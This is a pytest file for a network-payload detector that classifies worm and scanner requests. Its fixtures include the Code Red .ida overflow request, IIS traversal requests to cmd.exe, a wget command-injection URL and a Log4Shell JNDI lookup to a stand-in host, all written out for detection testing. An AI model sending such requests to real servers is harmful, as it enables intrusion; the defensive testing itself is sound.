from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from codered.detect import payloads
from codered.detect.payloads import ORDINARY_FIRST, PayloadJudge, cut_request_line, ports_of
from codered.engine import GaveUp, Matcher
from codered.model.ruleset import RuleSet
from codered.model.traffic import Sent, Transport
from codered.packs.compiling import compile_packs
from codered.packs.loading import find_packs_folder, load_packs

IDA = b"GET /default.ida?" + b"N" * 224 + b" HTTP/1.0\r\n"
HOST = b"GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n"


@pytest.fixture(scope="module")
def rules(rule_cache: Path) -> RuleSet:
    return compile_packs(load_packs(find_packs_folder()), rule_cache)


@pytest.fixture
def judge(rules: RuleSet) -> PayloadJudge:
    return PayloadJudge(rules)


def make_sent(
    data: bytes, port: int = 80, *, to: bytes = b"\x01", actor: bytes = b"a", kind: Transport = "tcp"
) -> Sent:
    return Sent(1.5, actor, b"\xc0\0\x02\x01", to, port, data, kind)


def test_the_request_of_a_worm_convicts_at_once(judge: PayloadJudge) -> None:
    request = judge.judge(make_sent(IDA + b"x" * 500))
    assert request is not None
    assert (request.signs, request.convicts) == (("codered/ida-n-sent",), True)
    assert (request.at, request.actor, request.port, request.protocol) == (1.5, b"a", 80, "tcp")
    assert request.data == (IDA + b"x" * 500)[:256]


@pytest.mark.parametrize(
    "line",
    [
        b"GET /scripts/root.exe?/c+dir HTTP/1.0",
        b"GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0",
        b"GET /scripts/httpext.dll HTTP/1.0",
        b"GET /shell?cd+/tmp;wget+x HTTP/1.1",
    ],
)
def test_what_a_vulnerability_scanner_sends_too_is_told_and_convicts_nobody(judge: PayloadJudge, line: bytes) -> None:
    request = judge.judge(make_sent(line + b"\r\n"))
    assert request is not None
    assert not request.convicts
    assert all(name.endswith("-sent") for name in request.signs)


@pytest.mark.parametrize(
    "data",
    [
        b"GET /default.ida?" + b"N" * 224,
        b"\r\n\r\n" + IDA,
        b"GET http://198.51.100.1:80/default.ida?" + b"N" * 224 + b" HTTP/1.0\r\n",
        b"GET /%64efault.ida?" + b"N" * 224 + b" HTTP/1.0\n",
        b"get /DEFAULT.ida?" + b"N" * 224 + b" HTTP/1.0\r\n",
    ],
)
def test_other_forms_of_the_same_request(judge: PayloadJudge, data: bytes) -> None:
    request = judge.judge(make_sent(data))
    assert request is not None
    assert request.convicts


def test_a_pattern_is_about_the_first_line_only(judge: PayloadJudge) -> None:
    assert judge.judge(make_sent(b"POST /paste HTTP/1.1\r\n\r\n" + IDA)) is None
    assert judge.judge(make_sent(b"GET x HTTP/1.0\r\n")) is not None
    assert judge.judge(make_sent(b"GET xy HTTP/1.0\r\n")) is None


def test_a_rule_is_about_all_of_the_payload(judge: PayloadJudge) -> None:
    request = judge.judge(make_sent(b"inert\r\n\r\nCodeRedII d:\\inetpub\\scripts\\root.exe d:\\explorer.exe"))
    assert request is not None
    assert request.signs == ("codered2/body-sent",)


def test_another_port_is_told_by_the_log_patterns_and_convicts_nobody(judge: PayloadJudge) -> None:
    request = judge.judge(make_sent(IDA, 8081))
    assert request is not None
    assert (request.signs, request.convicts) == (("codered/ida-n",), False)
    assert judge.judge(make_sent(b"\x16\x03\x01" + IDA, 8081)) is None
    assert judge.judge(make_sent(b"inert GET x HTTP/1.0", kind="udp")) is None


def test_log_patterns_speak_where_the_traffic_patterns_say_nothing(judge: PayloadJudge) -> None:
    agent = judge.judge(make_sent(b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/inert}\r\n\r\n"))
    assert agent is not None
    assert (agent.signs, agent.convicts) == (("kinsing/jndi-agent", "log4shell-spreader/jndi-agent"), False)
    assert judge.judge(make_sent(b"GET /readme.eml HTTP/1.1\r\n")) is None, "a visitor asks for that"
    assert judge.judge(make_sent(HOST)) is None


@pytest.mark.parametrize("header", [b"Via: 1.1 proxy", b"X-Forwarded-For: 192.0.2.9", b"forwarded: for=192.0.2.9"])
def test_what_says_that_it_was_handed_on_convicts_nobody(judge: PayloadJudge, header: bytes) -> None:
    request = judge.judge(make_sent(IDA + b"Host: x\r\n" + header + b"\r\n\r\n"))
    assert request is not None
    assert (request.convicts, judge.handed_on) == (False, 1)


def test_a_proxy_in_front_of_a_server_is_no_worm(judge: PayloadJudge) -> None:
    for _ in range(ORDINARY_FIRST):
        assert judge.judge(make_sent(HOST)) is None
    handed, other = judge.judge(make_sent(IDA)), judge.judge(make_sent(IDA, to=b"\x02"))
    assert handed is not None
    assert other is not None
    assert (handed.convicts, other.convicts) == (False, True)
    stranger = judge.judge(make_sent(IDA, actor=b"b"))
    assert stranger is not None
    assert stranger.convicts


def test_what_is_remembered_is_bounded(judge: PayloadJudge, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(payloads, "MOST_REMEMBERED", 10)
    monkeypatch.setattr(payloads, "MOST_PEERS", 10)
    for number in range(50):
        judge.judge(make_sent(b"GET /%d HTTP/1.1\r\n" % number, to=b"%d" % number))
    assert len(judge._lines) <= 10
    assert len(judge._asked) <= 10


def test_an_engine_that_gives_up_is_counted(judge: PayloadJudge, monkeypatch: pytest.MonkeyPatch) -> None:
    def give_up(_matcher: Matcher, _data: bytes) -> None:
        raise GaveUp("time limit reached")

    monkeypatch.setattr(Matcher, "match", give_up)
    monkeypatch.setattr(Matcher, "hits", give_up)
    assert judge.judge(make_sent(IDA)) is None
    assert judge.gave_up >= 2


def test_packs_without_traffic_or_logs_know_nothing(rules: RuleSet) -> None:
    empty = compile_packs((), None)
    assert empty.payload == b""
    assert PayloadJudge(empty).judge(make_sent(IDA)) is None
    assert ports_of(empty) == frozenset()
    assert {80, 8080, 60001} <= ports_of(rules)


@pytest.mark.parametrize(
    ("data", "line"),
    [(b"", b""), (b"\r\n", b""), (b"a\r\nb", b"a"), (b"\n\ra\nb", b"a"), (b"a\rb\n", b"a"), (b"a", b"a")],
)
def test_the_first_line(data: bytes, line: bytes) -> None:
    assert cut_request_line(data) == line


@given(st.binary(max_size=400))
def test_no_payload_raises(rules: RuleSet, data: bytes) -> None:
    judged = PayloadJudge(rules).judge(make_sent(b"GET /" + data))
    assert judged is None or judged.signs
    PayloadJudge(rules).judge(make_sent(data))


def test_a_request_in_pieces_is_not_many_ordinary_ones(judge: PayloadJudge) -> None:
    for size in (1, 2, 3, 4, 5):
        judge.judge(replace(make_sent(IDA[:size]), continued=size > 1))
    request = judge.judge(replace(make_sent(IDA + b"x" * 500), continued=True))
    assert request is not None
    assert request.convicts
